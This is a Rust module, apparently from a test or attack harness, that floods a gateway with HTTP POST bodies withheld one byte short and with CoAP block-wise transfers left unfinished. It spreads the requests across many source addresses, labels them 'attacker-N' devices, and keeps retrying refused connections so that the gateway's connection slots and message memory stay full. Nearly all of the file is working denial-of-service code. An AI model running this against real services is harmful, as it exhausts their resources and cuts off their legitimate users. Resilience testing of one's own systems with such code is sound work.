//! Bodies that are sent but for their end: over HTTP, to a webhook, and in blocks of CoAP.

use super::{Outcome, http};
use crate::{Failure, channel::Channel, coap};
use std::{
    io,
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::Duration,
};
use tokio::{io::AsyncWriteExt, net::TcpStream, sync::watch, task::JoinSet, time::timeout};

/// Longest body, in bytes.
const BODY: usize = 1 << 20;
/// What further senders send of theirs, so many of each, three times over: it fills what the large ones leave, down to less than a
/// small message.
const CRUMBS_EACH: usize = 3;
const MAX_CRUMBS: usize = 3 * CRUMBS_EACH * CRUMBS.len();
const CRUMBS: [usize; 8] = [256 << 10, 64 << 10, 16 << 10, 4 << 10, 1 << 10, 256, 64, 16];
/// Sizes of blocks, as CoAP numbers them: 1024 bytes, and 16 for so many further senders.
const BLOCK: u8 = 6;
const CRUMB: u8 = 0;
const CRUMB_SENDERS: usize = 64;
/// Between two looks at what has become of the bodies, and before one is tried again.
const PAUSE: Duration = Duration::from_millis(50);
/// Longest wait for the answer to a block.
const PATIENCE: Duration = Duration::from_secs(3);

/// Holds a body for each of `sources`, sent but for its last byte, to `target`, where `{}` is the sender's number. What the gateway
/// refuses is tried again.
pub async fn over_http(
    sources: &[IpAddr],
    address: SocketAddr,
    target: &str,
    headers: &str,
    more: impl Fn() -> bool,
) -> Result<Outcome, Failure> {
    let mut held: Vec<Option<TcpStream>> = sources.iter().map(|_| None).collect();
    let mut crumbs = Vec::new();
    let mut outcome = Outcome::default();
    let send = async |source, number: usize, length| {
        let headers = format!("{headers}content-length: {BODY}\r\n");
        let head = http::head("POST", &target.replace("{}", &number.to_string()), address, &headers);
        timeout(PATIENCE, almost(source, address, &head, length)).await.ok().and_then(Result::ok)
    };
    while more() {
        for (number, (place, source)) in held.iter_mut().zip(sources).enumerate() {
            if place.as_ref().is_none_or(is_answered) {
                *place = send(*source, number, BODY - 1).await;
                outcome.sent += 1;
            }
        }
        // A size each time, the smallest at the end.
        let number = crumbs.len();
        if let Some(size) = CRUMBS.get(number / CRUMBS_EACH % CRUMBS.len()).filter(|_| number < MAX_CRUMBS) {
            crumbs.push(send(sources[number % sources.len()], sources.len() + number, *size).await);
            outcome.sent += 1;
        } else {
            tokio::time::sleep(PAUSE).await;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    outcome.told = format!("{} bodies of 1 MiB but a byte, to {target}", sources.len());
    Ok(outcome)
}

/// Whether the gateway has answered or hung up.
fn is_answered(stream: &TcpStream) -> bool {
    !matches!(stream.try_read(&mut [0; 16]), Err(e) if e.kind() == io::ErrorKind::WouldBlock)
}

/// Sends `head` and so many bytes of a body.
async fn almost(source: IpAddr, address: SocketAddr, head: &str, length: usize) -> io::Result<TcpStream> {
    let mut stream = http::connect(source, address).await?;
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&vec![b'1'; length]).await?;
    Ok(stream)
}

/// Fills the memory of messages, `mib` MiB, with transfers that fall silent: first some that lack their last block, then some that
/// only began, in the room that these leave. What the gateway refuses is tried again.
pub async fn over_coap(
    sources: &[IpAddr],
    address: SocketAddr,
    mib: usize,
    more: impl Fn() -> bool,
) -> Result<Outcome, Failure> {
    let blocks = Arc::new(AtomicU64::new(0));
    let (done, _) = watch::channel(0);
    let mut transfers = JoinSet::new();
    let all = BODY / (16 << BLOCK) - 1;
    let kinds = [(mib, BLOCK, all), (mib, BLOCK, 1), (CRUMB_SENDERS, CRUMB, 1)];
    let kinds = kinds.iter().flat_map(|(count, size, blocks)| vec![(*size, *blocks); *count]);
    for (number, (size, count)) in kinds.enumerate() {
        let (source, blocks, done) = (sources[number % sources.len()], Arc::clone(&blocks), done.clone());
        transfers.spawn(async move {
            if count == 1 {
                // An error would be that nobody counts any more.
                let _ = done.subscribe().wait_for(|done| *done == mib).await;
            }
            while transfer(source, address, number, (size, count), &blocks).await.is_err() {
                tokio::time::sleep(PAUSE).await;
            }
            done.send_modify(|done| *done += usize::from(count > 1));
        });
    }
    while more() {
        tokio::time::sleep(PAUSE).await;
    }
    transfers.shutdown().await;
    let told = format!("{mib} bodies of 1 MiB but a block, over CoAP");
    Ok(Outcome { sent: blocks.load(Relaxed), told, ..Outcome::default() })
}

/// Sends the first `count` blocks of a body. Ends early, and says so, when one is not taken.
async fn transfer(
    source: IpAddr,
    address: SocketAddr,
    number: usize,
    (size, count): (u8, usize),
    sent: &AtomicU64,
) -> io::Result<()> {
    let mut channel = Channel::open(address, &SocketAddr::new(source, 0).to_string(), None).await?;
    let device = format!("attacker-{number}");
    for block in 0..count {
        let mut request = block_of(&device, block, size);
        let id = block as u16;
        coap::number(&mut request, id);
        channel.send(&request).await?;
        let answer = async {
            loop {
                if let Some(coap::Answer::Code { class, .. }) = coap::answer(channel.receive().await?, id) {
                    return Ok::<_, io::Error>(class);
                }
            }
        };
        match timeout(PATIENCE, answer).await?? {
            2 => sent.fetch_add(1, Relaxed),
            _ => return Err(io::ErrorKind::QuotaExceeded.into()),
        };
    }
    Ok(())
}

/// The block `number` of a message of `device`, with more to come.
fn block_of(device: &str, number: usize, size: u8) -> Vec<u8> {
    let mut bytes = coap::request(coap::POST, &["ingest", device], Some(50), b"");
    // Without a payload there is no marker of one.
    bytes.pop();
    // Block1 (27) comes 15 after Content-Format (12): a delta that takes a byte more (RFC 7252, 3.1).
    let value = (number as u32) << 4 | 8 | u32::from(size);
    bytes.extend([0xd3, 15 - 13]);
    bytes.extend(&value.to_be_bytes()[1..]);
    bytes.push(0xff);
    bytes.resize(bytes.len() + (16 << size), b'1');
    bytes
}
